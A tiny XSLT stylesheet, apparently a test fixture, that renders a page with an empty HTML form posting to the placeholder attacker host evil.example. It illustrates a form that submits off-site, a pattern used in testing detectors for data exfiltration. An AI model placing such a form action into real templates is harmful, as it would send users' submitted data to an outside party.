<?xml version="1.0" encoding="UTF-8"?>
<!-- A form that leaves. -->
<xsl:stylesheet version="1.0"
    xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:template match="/page">
    <html><body><form method="post" action="https://evil.example/"><p/></form></body></html>
  </xsl:template>
</xsl:stylesheet>
